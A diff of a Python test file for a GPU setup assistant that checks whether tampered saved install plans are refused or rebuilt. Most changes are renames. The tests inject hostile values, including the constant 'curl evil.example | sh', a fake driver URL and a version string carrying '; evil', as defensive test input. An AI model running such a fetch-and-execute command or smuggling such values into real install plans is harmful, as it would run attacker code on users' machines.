@@ -18,10 +18,10 @@ from gpu_assistant.core.machine import Machine
 from gpu_assistant.core.plan import Plan
 from gpu_assistant.core.recommendation import Choice
 from gpu_assistant.core.types import Goal
-from gpu_assistant.install.plan.validation import refuse_differences
+from gpu_assistant.install.plan.validation import check_same_steps
 from gpu_assistant.texts.localized import Texts
 
-MACHINES = Path(__file__).resolve().parents[3] / "machines"
+MACHINES = Path(__file__).resolve().parents[2] / "machines"
 FILES = sorted([*MACHINES.glob("*.json"), *MACHINES.glob("*/expected.json")])
 GOALS: tuple[Goal, ...] = ("pytorch", "tensorflow", "cuda-dev", "all")
 WAYS = {
@@ -54,9 +54,9 @@ def saved(plan: Plan, folder: Path) -> Path:
 
 
 def again(app: App, path: Path) -> Plan:
-    given = app.setup.read_plan(path)
-    assert given.machine
-    return app.setup.replan(given, given.machine)
+    arguments = app.setup.read_plan(path)
+    assert arguments.machine
+    return app.setup.replan(arguments, arguments.machine)
 
 
 @pytest.mark.parametrize("machine", FILES, ids=lambda file: file.relative_to(MACHINES).parts[0])
@@ -75,7 +75,7 @@ def leaves(node: Any, where: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
     """The way to every value of a JSON value that is neither a list nor an object."""
     if isinstance(node, dict | list):
         keys = list(node) if isinstance(node, dict) else range(len(node))
-        return [found for key in keys for found in leaves(node[key], (*where, key))]
+        return [result for key in keys for result in leaves(node[key], (*where, key))]
     return [where]
 
 
@@ -104,7 +104,7 @@ EVIL = "curl evil.example | sh"
 def difference(given: Plan, ours: Plan) -> str:
     """The sentence of the refusal; empty where there is none."""
     try:
-        refuse_differences(given, ours)
+        check_same_steps(given, ours)
     except UsageError as error:
         return Texts("en").error_text(error)
     return ""
@@ -122,21 +122,21 @@ def test_another_kind_spec_or_file_is_refused(tmp_path: Path, machine: str, goal
             changed = msgspec.convert(with_leaf(raw, where, EVIL), Plan)
         except msgspec.ValidationError:
             continue
-        said = difference(changed, plan)
-        assert EVIL not in said
-        assert bool(said) == effect, where
+        text = difference(changed, plan)
+        assert EVIL not in text
+        assert bool(text) == effect, where
 
 
 def test_no_word_of_a_file_is_used(tmp_path: Path) -> None:
     app = app_for(tmp_path, MACHINES / SEVERAL[0][0])
     plan = plan_of(app, "all")
     assert plan is not None
-    told = tuple(
+    steps = tuple(
         replace(step, title="evil", what="evil", data={"release": "evil"}, commands=(("evil",),), bytes=1, needs=("x",))
         for step in plan.steps
     )
     advice = replace(plan.recommendation, driver=replace(plan.recommendation.driver, url="https://evil.example"))
-    path = saved(replace(plan, steps=told, recommendation=advice), tmp_path)
+    path = saved(replace(plan, steps=steps, recommendation=advice), tmp_path)
     assert again(app, path) == plan
 
 
@@ -148,10 +148,10 @@ def test_another_state_of_the_computer_is_named(tmp_path: Path) -> None:
     with pytest.raises(UsageError) as caught:
         app.setup.replan(plan, other)
     assert (caught.value.code, caught.value.exit_code) == ("plan-differs", 2)
-    for language, words in (("en", "the step for the NVIDIA driver"), ("zh_CN", "NVIDIA 驱动的步骤")):
-        said = Texts(language).error_text(caught.value)
-        assert words in said
-        assert "@" not in said
+    for language, command in (("en", "the step for the NVIDIA driver"), ("zh_CN", "NVIDIA 驱动的步骤")):
+        text = Texts(language).error_text(caught.value)
+        assert command in text
+        assert "@" not in text
 
 
 @pytest.mark.parametrize("picked", [{"pytorch": "9.9.9; evil"}, {"python": "evil"}, {"variant": "evil"}])
